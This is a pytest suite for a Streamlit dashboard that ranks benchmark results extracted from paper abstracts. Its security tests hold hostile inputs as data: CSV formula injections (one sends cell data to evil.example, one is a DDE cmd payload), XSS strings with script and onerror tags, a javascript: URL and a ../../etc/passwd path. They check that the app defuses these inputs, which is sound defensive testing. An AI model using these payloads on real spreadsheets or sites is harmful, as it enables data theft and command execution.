"""The dashboard (dashboards/app.py) under Streamlit's AppTest, and `lbx dashboard`.

Every view runs on a small table written here from tests/fixtures/dashboard/
rows.jsonl: COCO test-dev AP (higher is better, three papers: the default
board), LRS3 word error rate (lower is better), CIFAR-10 accuracy under two
settings (250 labels, and none), dated and undated papers, a delta claim, a
percentage over 100 and an anonymous "prior state of the art" that must be
kept out, and a paper whose title, method and evidence carry HTML, a <script>
and Markdown that must stay inert text.
"""
from __future__ import annotations

import io
import json
import os
import sys
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner
from streamlit.testing.v1 import AppTest

import extractor
from extractor.table import SCHEMA

REPO = Path(__file__).resolve().parent.parent
APP = REPO / "dashboards" / "app.py"
ROWS = Path(__file__).resolve().parent / "fixtures" / "dashboard" / "rows.jsonl"
COCO = ("COCO test-dev", "AP")
LRS3 = ("LRS3", "word error rate")
XSS_PAPER = "2402.00002"

# The dashboard's modules import as `dashboards.*` from the repo root, as the app does.
if str(REPO) not in sys.path:
    sys.path.insert(0, str(REPO))


def fixture_rows() -> list[dict]:
    return [json.loads(line) for line in ROWS.read_text(encoding="utf-8").splitlines() if line.strip()]


def write_results(path: Path, rows: list[dict]) -> Path:
    """A results file in lbx's SCHEMA; columns the rows leave out get defaults
    (start/end: the number's span, the evidence standing in for the abstract)."""
    if not rows:
        pq.write_table(SCHEMA.empty_table(), path)
        return path
    full = []
    for row in rows:
        start = max(row["evidence"].find(row["value_text"]), 0)
        full.append({"source": "jsonl:fixture", "value_norm": None, "unit_norm": None, "rule": "test.rule",
                     "extractor_version": extractor.__version__, "url": None,
                     "start": start, "end": start + len(row["value_text"]), **row})
    frame = pd.DataFrame(full, columns=SCHEMA.names)
    frame["published"] = [None if p is None else pd.Timestamp(p) for p in frame["published"]]
    pq.write_table(pa.Table.from_pandas(frame, schema=SCHEMA, preserve_index=False), path)
    return path


@pytest.fixture
def results(tmp_path) -> Path:
    return write_results(tmp_path / "results.parquet", fixture_rows())


def run_app(monkeypatch, path, **params) -> AppTest:
    monkeypatch.setenv("LBX_RESULTS", str(path))
    at = AppTest.from_file(str(APP), default_timeout=30)
    at.query_params.update(params)
    return at.run()


def html_of(at: AppTest) -> str:
    return "\n".join(h.value for h in at.get("html"))


# The column that tells each view's st.dataframe apart (AppTest does not expose
# the key of a read-only dataframe).
TABLE_MARKERS = {"ranking_table": "link", "flagged_table": "reason", "paper_table": "rule",
                 "explorer_table": "extractor_version", "paper_results_table": "AP · COCO test-dev"}


def table(at: AppTest, key: str) -> pd.DataFrame:
    frames = [d.value for d in at.dataframe]
    return next(f for f in frames if TABLE_MARKERS[key] in f.columns)


def write_dataset_dir(root: Path, rows: list[dict]) -> Path:
    """A dataset directory as `lbx extract -o DIR/` lays it out: Hive partitions by year."""
    by_year: dict[str, list[dict]] = {}
    for r in rows:
        by_year.setdefault(r["published"][:4] if r.get("published") else "unknown", []).append(r)
    for year, part in by_year.items():
        (root / f"year={year}").mkdir(parents=True)
        write_results(root / f"year={year}" / "part-0.parquet", part)
    return root


def assert_clean(at: AppTest) -> None:
    assert not at.exception, [e.value for e in at.exception]
    assert not at.error, [e.value for e in at.error]


# --- leaderboard ------------------------------------------------------------------------

def test_leaderboard_opens_on_the_most_covered_benchmark_ranked_high_first(monkeypatch, results):
    at = run_app(monkeypatch, results)
    assert_clean(at)
    assert at.selectbox(key="bench").value == COCO
    ranked = table(at, "ranking_table")
    assert ranked["method"].tolist() == ["BazDet<b>bold</b>", "FooDet", "BarNet", "QuxDet"]
    assert ranked["rank"].tolist() == [1, 2, 3, 4]
    assert ranked["link"].tolist()[:2] == ["https://arxiv.org/abs/2402.00002", "https://arxiv.org/abs/2401.00001"]
    assert pd.isna(ranked["link"].iloc[3])  # t:... ids are not arXiv ids
    assert at.query_params == {"view": "leaderboard", "dataset": COCO[0], "metric": COCO[1]}
    page = html_of(at)
    assert "<mark>60.1 AP</mark>" in page
    assert 'href="https://arxiv.org/abs/2401.00001"' in page
    assert "lbx-claim" in page and "2.1 AP" in page  # FooDet's delta beside its rank
    assert not at.get("vega_lite_chart")  # the charts are the Charts view's
    assert 'href="?view=charts&amp;dataset=COCO+test-dev&amp;metric=AP"' in page
    # the quoted "prior state of the art" is listed beneath with its reason, not ranked
    kept = table(at, "flagged_table")
    assert kept["method"].tolist() == ["prior state of the art"]
    assert kept["reason"].iloc[0].startswith("anonymous reference (the previous state of the art)")


def test_selecting_a_benchmark_changes_the_table_and_the_url(monkeypatch, results):
    at = run_app(monkeypatch, results)
    at.selectbox(key="bench").set_value(LRS3).run()
    assert_clean(at)
    ranked = table(at, "ranking_table")
    # Word error rate: lower is better, so ascending; the 130% row is kept out.
    assert ranked["method"].tolist() == ["LipC", "LipA", "LipB"]
    assert ranked["value"].tolist() == [19.0, 20.3, 25.1]
    assert at.query_params == {"view": "leaderboard", "dataset": "LRS3", "metric": "word error rate"}
    assert "lower is better" in html_of(at)
    flagged = table(at, "flagged_table")
    assert flagged["method"].tolist() == ["LipD"]


def test_search_and_task_narrow_the_picker(monkeypatch, results):
    at = run_app(monkeypatch, results)
    at.text_input(key="bench_query").input("lrs").run()
    assert at.selectbox(key="bench").value == LRS3
    assert len(at.selectbox(key="bench").options) == 1
    at.text_input(key="bench_query").input("").run()
    at.selectbox(key="bench_task").set_value("object detection").run()
    assert_clean(at)
    assert len(at.selectbox(key="bench").options) == 1
    assert at.selectbox(key="bench").value == COCO
    at.text_input(key="bench_query").input("no such benchmark").run()
    assert any("No benchmark matches" in i.value for i in at.info)


def test_url_restores_a_leaderboard(monkeypatch, results):
    at = run_app(monkeypatch, results, view="leaderboard", dataset="LRS3", metric="word error rate")
    assert_clean(at)
    assert at.selectbox(key="bench").value == LRS3
    assert table(at, "ranking_table")["method"].tolist()[0] == "LipC"


def test_a_link_to_an_unknown_benchmark_falls_back_with_a_warning(monkeypatch, results):
    at = run_app(monkeypatch, results, view="leaderboard", dataset="../../etc/passwd", metric="AP")
    assert not at.exception
    assert at.selectbox(key="bench").value == COCO
    assert any("not in this file" in w.value for w in at.warning)


def test_a_setting_is_its_own_board_and_its_own_selection(monkeypatch, results):
    at = run_app(monkeypatch, results)
    at.selectbox(key="bench").set_value(("CIFAR-10", "accuracy")).run()
    assert_clean(at)
    # the pair's board with most papers first: 250 labels (two papers), then none (one)
    assert at.selectbox(key="setting").options == ["semi-supervised; 250 labels", "none (the standard setting)"]
    assert at.selectbox(key="setting").value == "semi-supervised; 250 labels"
    assert table(at, "ranking_table")["method"].tolist() == ["SemiA", "SemiB"]
    assert at.query_params["setting"] == "semi-supervised; 250 labels"
    at.selectbox(key="setting").set_value("").run()
    assert_clean(at)
    assert table(at, "ranking_table")["method"].tolist() == ["SupB"]  # never beside the 250-label runs
    assert at.query_params == {"view": "leaderboard", "dataset": "CIFAR-10", "metric": "accuracy"}
    again = run_app(monkeypatch, results, view="leaderboard", dataset="CIFAR-10", metric="accuracy",
                    setting="semi-supervised; 250 labels")
    assert table(again, "ranking_table")["method"].tolist() == ["SemiA", "SemiB"]
    plain = run_app(monkeypatch, results, view="leaderboard", dataset="CIFAR-10", metric="accuracy")
    assert table(plain, "ranking_table")["method"].tolist() == ["SupB"]  # no setting in the link: none


def test_the_toggle_shows_everything_with_the_reason(monkeypatch, results):
    at = run_app(monkeypatch, results)
    assert at.toggle(key="show_all").value is False
    at.toggle(key="show_all").set_value(True).run()
    assert_clean(at)
    ranked = table(at, "ranking_table")
    assert ranked["method"].tolist() == ["BazDet<b>bold</b>", "prior state of the art", "FooDet", "BarNet", "QuxDet"]
    assert ranked["note"].iloc[1].startswith("anonymous reference")
    assert "not ranked by default: anonymous reference" in html_of(at)
    assert at.query_params["all"] == "1"
    assert not [t for t in at.dataframe if "reason" in t.value.columns]  # nothing plausible left out
    at.selectbox(key="bench").set_value(LRS3).run()
    assert table(at, "flagged_table")["method"].tolist() == ["LipD"]  # 130% WER: never ranked, even so


# --- charts ----------------------------------------------------------------------------

def test_the_charts_view_has_its_url_and_draws_both_charts(monkeypatch, results):
    at = run_app(monkeypatch, results, view="charts", dataset="LRS3", metric="word error rate")
    assert_clean(at)
    assert at.radio(key="view").value == "charts"
    charts = at.get("vega_lite_chart")
    assert len(charts) == 2  # the ranking dot plot, and results by month
    dots = json.loads(charts[0].proto.spec)
    x = dots["layer"][1]["encoding"]["x"]
    low, high = x["scale"]["domain"]
    assert 0.15 < low < 0.19 and 0.25 < high < 0.27  # an axis near the values, not from 0
    assert dots["layer"][1]["mark"]["type"] == "circle"
    assert at.query_params == {"view": "charts", "dataset": "LRS3", "metric": "word error rate"}


def test_the_time_chart_is_hidden_with_a_note_when_all_papers_share_a_month(monkeypatch, tmp_path):
    rows = [{**r, "published": "2024-03-01"} for r in fixture_rows()]
    at = run_app(monkeypatch, write_results(tmp_path / "r.parquet", rows), view="charts")
    assert_clean(at)
    assert len(at.get("vega_lite_chart")) == 1
    assert any("same month" in i.value for i in at.info)


def test_time_chart_bins_by_month():
    from dashboards.views.charts import dated_frame

    ranked = pd.DataFrame({"published": ["2024-01-03", "2024-01-28", "2024-02-10"], "value_norm": [0.1, 0.2, 0.3],
                           "method": ["A", "B", "C"], "rank": [1, 2, 3], "title": ["a", "b", "c"],
                           "value_text": ["10%", "20%", "30%"]})
    assert dated_frame(ranked)["date"].dt.strftime("%Y-%m-%d").tolist() == ["2024-01-01", "2024-01-01", "2024-02-01"]


@pytest.mark.parametrize("view", ["leaderboard", "charts", "paper", "explorer"])
def test_every_view_the_sidebar_names_renders(monkeypatch, results, view):
    from dashboards.url_state import VIEWS

    assert list(VIEWS) == ["leaderboard", "charts", "paper", "explorer"]
    at = run_app(monkeypatch, results, view=view)
    assert_clean(at)
    assert at.radio(key="view").value == view and at.query_params["view"] == view


def test_a_dataset_directory_opens_like_a_file(monkeypatch, tmp_path):
    root = write_dataset_dir(tmp_path / "ds", fixture_rows())
    at = run_app(monkeypatch, root)
    assert_clean(at)
    assert at.selectbox(key="bench").value == COCO
    assert table(at, "ranking_table")["method"].tolist() == ["BazDet<b>bold</b>", "FooDet", "BarNet", "QuxDet"]
    at = run_app(monkeypatch, root, view="explorer")
    assert len(table(at, "explorer_table")) == len(fixture_rows())


def test_time_chart_draws_a_direction_aware_state_of_the_art():
    from dashboards.views.charts import state_of_the_art

    dated = pd.DataFrame({"date": pd.to_datetime(["2024-01-01", "2024-02-01", "2024-03-01"]),
                          "value": [20.0, 25.0, 18.0]})
    assert state_of_the_art(dated, higher=False)["sota"].tolist() == [20.0, 20.0, 18.0]
    assert state_of_the_art(dated, higher=True)["sota"].tolist() == [20.0, 25.0, 25.0]


# --- paper view -----------------------------------------------------------------------

def test_url_restores_a_paper_with_its_numbers_highlighted(monkeypatch, results):
    at = run_app(monkeypatch, results, view="paper", paper="2401.00001")
    assert_clean(at)
    assert at.radio(key="view").value == "paper"
    assert at.selectbox(key="paper").value == "2401.00001"
    page = html_of(at)
    # One sentence, its three numbers marked; the sentence shown once.
    assert "<mark>60.1 AP</mark>" in page and "<mark>2.1 AP</mark>" in page and "<mark>58.0 AP</mark>" in page
    assert page.count("FooDet reaches") == 1
    assert len(table(at, "paper_table")) == 4
    # the paper's results table: one row per method, one column per benchmark
    results_table = table(at, "paper_results_table")
    assert results_table.columns.tolist() == ["method", "AP · COCO test-dev"]
    assert results_table.set_index("method")["AP · COCO test-dev"].to_dict() == {
        "FooDet": "60.1 AP", "BarNet": "58.0 AP", "prior state of the art": "61.0 AP"}
    assert at.query_params == {"view": "paper", "paper": "2401.00001"}


def test_choosing_another_paper(monkeypatch, results):
    at = run_app(monkeypatch, results)
    at.radio(key="view").set_value("paper").run()
    at.selectbox(key="paper").set_value("2404.00004").run()
    assert_clean(at)
    assert set(table(at, "paper_table")["method"]) == {"LipC", "LipD"}
    assert at.query_params == {"view": "paper", "paper": "2404.00004"}


# --- explorer -------------------------------------------------------------------------

def test_explorer_filters_and_downloads(monkeypatch, results):
    at = run_app(monkeypatch, results, view="explorer")
    assert_clean(at)
    assert len(table(at, "explorer_table")) == len(fixture_rows())
    at.multiselect(key="ex_kind").set_value(["score"]).run()
    at.multiselect(key="ex_dataset").set_value(["LRS3"]).run()
    at.slider(key="ex_conf").set_value(0.85).run()
    assert_clean(at)
    shown = table(at, "explorer_table")
    assert sorted(shown["method"]) == ["LipA", "LipC"]
    at.multiselect(key="ex_method").set_value(["LipC"]).run()
    assert table(at, "explorer_table")["method"].tolist() == ["LipC"]
    assert [b.label for b in at.get("download_button")] == ["Download CSV", "Download Parquet"]


def test_downloads_hold_the_filtered_rows_in_lbx_schema(results):
    from dashboards import data
    from dashboards.views.explorer import apply_filters

    df = pd.read_parquet(results)
    shown = apply_filters(df, ["delta", "ratio"], [], [], [], 0.0)
    back = pq.read_table(io.BytesIO(data.to_parquet(shown)))
    assert back.schema.names == SCHEMA.names
    assert back.schema.field("published").type == SCHEMA.field("published").type
    assert sorted(back.column("kind").to_pylist()) == ["delta", "ratio"]
    csv = pd.read_csv(io.BytesIO(data.to_csv(shown)))
    assert len(csv) == 2 and "evidence" in csv.columns


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3"]


def test_csv_download_defuses_formulas_and_keeps_numbers(tmp_path):
    """A title, method or evidence from an abstract that a spreadsheet would run as a
    formula is written with a leading ', a newline stays inside its quoted cell, and
    numbers stay numbers (a negative value unquoted, a text cell that is only a number as it is)."""
    import csv as csvmod

    from dashboards import data

    base = fixture_rows()[0]
    rows = [{**base, "title": HOSTILE[0], "paper_id": "2409.00001"},
            {**base, "title": HOSTILE[1], "method": HOSTILE[2], "paper_id": "2409.00002"},
            {**base, "paper_id": "2409.00003", "kind": "delta", "value": -2.1, "value_text": "-2.1",
             "evidence": HOSTILE[3] + " is what -2.1 WER on LRS3 means.\nA second line.", "title": "Plain"}]
    df = pd.read_parquet(write_results(tmp_path / "hostile.parquet", rows))
    raw = data.to_csv(df)
    cells = list(csvmod.reader(io.StringIO(raw.decode("utf-8"), newline="")))
    header, body = cells[0], cells[1:]
    assert len(body) == 3  # the newline in the evidence did not start a row
    col = {name: [r[header.index(name)] for r in body] for name in header}
    assert col["title"] == ["'" + HOSTILE[0], "'" + HOSTILE[1], "Plain"]
    assert col["method"][1] == "'" + HOSTILE[2]
    assert col["evidence"][2] == "'" + rows[2]["evidence"] and "\n" in col["evidence"][2]
    assert col["value"][2] == "-2.1" and b",-2.1," in raw  # a number, unquoted, not prefixed
    assert col["value_text"][2] == "-2.1"
    # No cell of any row starts with a formula character, whatever reader splits it.
    assert not [c for r in body for c in r if c[:1] in ("=", "+", "@") or (c[:1] == "-" and c != "-2.1")]
    back = pd.read_csv(io.BytesIO(raw))
    assert back["value"].dtype.kind == "f" and back["value"].tolist()[2] == -2.1


# --- untrusted text -------------------------------------------------------------------

@pytest.mark.parametrize("params", [{}, {"view": "paper", "paper": XSS_PAPER}])
def test_html_and_markdown_from_an_abstract_stay_text(monkeypatch, results, params):
    at = run_app(monkeypatch, results, **params)
    assert_clean(at)
    page = html_of(at)
    assert "<script" not in page and "<img" not in page and "<b>bold" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "&lt;img src=x onerror=alert(2)&gt;" in page
    assert "[link](http://x)" in page and 'href="http://x"' not in page
    # Nothing from an abstract goes through Markdown.
    markdown = " ".join(m.value for m in at.markdown) + " ".join(m.value for m in at.caption)
    assert "alert" not in markdown and "BazDet" not in markdown


def test_links_are_http_only():
    from dashboards import markup

    assert markup.paper_url("x", "javascript:alert(1)") is None
    assert markup.link("t", "javascript:alert(1)") == "t"
    assert markup.paper_url("arXiv:2401.00001") == "https://arxiv.org/abs/2401.00001"
    assert markup.paper_url("hep-th/9901001v2") == "https://arxiv.org/abs/hep-th/9901001v2"
    assert markup.paper_url("t:42", "https://example.org/p") == "https://example.org/p"


def test_the_number_is_found_whole_in_its_sentence():
    from dashboards import markup

    assert markup.highlight("from 64.2 to 4.2 AP", "4.2 AP", 4.2) == "from 64.2 to <mark>4.2 AP</mark>"
    assert markup.highlight("gains +3.2 mAP <b>", "+3.2 mAP", 3.2) == "gains <mark>+3.2 mAP</mark> &lt;b&gt;"
    assert markup.highlight("no number here", "7%", 7.0) == "no number here"


# --- files the dashboard cannot show ---------------------------------------------------

def _empty(path: Path) -> Path:
    return write_results(path, [])


def _wrong_schema(path: Path) -> Path:
    pq.write_table(pa.table({"a": [1, 2], "b": ["x", "y"]}), path)
    return path


def _not_parquet(path: Path) -> Path:
    path.write_text("paper_id,title\n1,x\n")
    return path


@pytest.mark.parametrize("make, kind, text", [
    (None, "error", "no such file"),
    (_empty, "info", "no rows"),
    (_wrong_schema, "error", "not an lbx results table"),
    (_not_parquet, "error", "not a Parquet file"),
])
def test_files_that_cannot_be_shown_get_a_message(monkeypatch, tmp_path, make, kind, text):
    path = tmp_path / "results.parquet"
    if make is not None:
        make(path)
    at = run_app(monkeypatch, path)
    assert not at.exception
    messages = [m.value for m in getattr(at, kind)]
    assert any(text in m.replace("\\", "") for m in messages), messages
    assert not at.dataframe


def test_a_rewritten_file_is_read_again(monkeypatch, tmp_path):
    path = write_results(tmp_path / "results.parquet", fixture_rows())
    at = run_app(monkeypatch, path)
    assert table(at, "ranking_table")["method"].tolist()[0] == "BazDet<b>bold</b>"
    rows = [r for r in fixture_rows() if r["paper_id"] != XSS_PAPER]
    before = os.stat(path).st_mtime_ns
    write_results(path, rows)
    os.utime(path, ns=(before + 1_000_000_000, before + 1_000_000_000))
    at.run()
    assert table(at, "ranking_table")["method"].tolist()[0] == "FooDet"


# --- where the file comes from, and `lbx dashboard` -------------------------------------

def test_the_file_comes_from_the_command_line_then_the_environment_then_the_sample():
    from dashboards import data

    app = str(APP)
    assert data.results_source([app, "r.parquet"], {"LBX_RESULTS": "e.parquet"}) == (os.path.abspath("r.parquet"), "argument")
    assert data.results_source([app], {"LBX_RESULTS": "e.parquet"}) == (os.path.abspath("e.parquet"), "LBX_RESULTS")
    assert data.results_source(["pytest", "-q"], {}) == (str(REPO / "data" / "sample_results.parquet"), "sample")


def test_lbx_dashboard_runs_streamlit_on_the_file(monkeypatch, results):
    from extractor import cli_dashboard

    seen = []
    monkeypatch.setattr(cli_dashboard, "run", lambda cmd: seen.append(cmd) or 0)
    out = CliRunner().invoke(cli_dashboard.dashboard, [str(results), "--port", "8600", "--headless"])
    assert out.exit_code == 0, out.output
    cmd = seen[0]
    assert cmd[1:4] == ["-m", "streamlit", "run"] and cmd[4] == str(APP)
    assert cmd[cmd.index("--server.port") + 1] == "8600"
    assert cmd[cmd.index("--server.headless") + 1] == "true"
    assert cmd[-2:] == ["--", str(results)]
    out = CliRunner().invoke(cli_dashboard.dashboard, [])
    assert out.exit_code == 0 and "--" not in seen[1]  # the app picks LBX_RESULTS or the sample


def test_lbx_dashboard_opens_a_dataset_directory(monkeypatch, tmp_path):
    from extractor import cli_dashboard

    root = write_dataset_dir(tmp_path / "ds", fixture_rows())
    seen = []
    monkeypatch.setattr(cli_dashboard, "run", lambda cmd: seen.append(cmd) or 0)
    out = CliRunner().invoke(cli_dashboard.dashboard, [str(root) + "/", "--headless"])
    assert out.exit_code == 0, out.output
    assert seen[0][-2:] == ["--", str(root)]


def test_lbx_dashboard_refuses_a_missing_file(tmp_path):
    from extractor.cli_dashboard import dashboard

    out = CliRunner().invoke(dashboard, [str(tmp_path / "nope.parquet")])
    assert out.exit_code == 2 and "does not exist" in out.output


def test_lbx_dashboard_listens_on_loopback_unless_told_otherwise(monkeypatch, results):
    from extractor import cli_dashboard

    seen = []
    monkeypatch.setattr(cli_dashboard, "run", lambda cmd: seen.append(cmd) or 0)
    for args, address in (([], "127.0.0.1"), (["--address", "0.0.0.0"], "0.0.0.0"), (["--address", "::1"], "::1")):
        out = CliRunner().invoke(cli_dashboard.dashboard, [str(results), "--headless", *args])
        assert out.exit_code == 0, out.output
        cmd = seen[-1]
        assert cmd.count("--server.address") == 1 and cmd[cmd.index("--server.address") + 1] == address
        assert cmd.index("--server.address") < cmd.index("--")  # an option of streamlit's, not the app's
    out = CliRunner().invoke(cli_dashboard.dashboard, [str(results), "--address", " "])
    assert out.exit_code == 2 and "give an address" in out.output  # "" would be Streamlit's every interface


def test_a_real_lbx_dashboard_listens_only_on_127_0_0_1(tmp_path, results):
    """Starts `lbx dashboard --headless --port P` and reads which addresses its
    process tree listens on (psutil, from /proc on Linux)."""
    import socket
    import subprocess
    import time
    import urllib.request

    import psutil

    from extractor.cli_dashboard import stop

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    env = {k: v for k, v in os.environ.items() if k != "LBX_RESULTS"}
    proc = subprocess.Popen([sys.executable, "-m", "extractor", "dashboard", str(results), "--headless",
                             "--port", str(port)], cwd=REPO, env=env,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 90
        while True:
            assert proc.poll() is None and time.monotonic() < deadline, "the dashboard did not start"
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{port}/_stcore/health", timeout=2) as r:
                    if r.read().strip() == b"ok":
                        break
            except OSError:
                time.sleep(0.3)
        tree = [psutil.Process(proc.pid), *psutil.Process(proc.pid).children(recursive=True)]
        listening = {c.laddr.ip for p in tree for c in p.net_connections(kind="inet")
                     if c.status == psutil.CONN_LISTEN and c.laddr.port == port}
        assert listening == {"127.0.0.1"}
    finally:
        children = psutil.Process(proc.pid).children(recursive=True) if proc.poll() is None else []
        stop(proc)
        psutil.wait_procs(children, timeout=10)
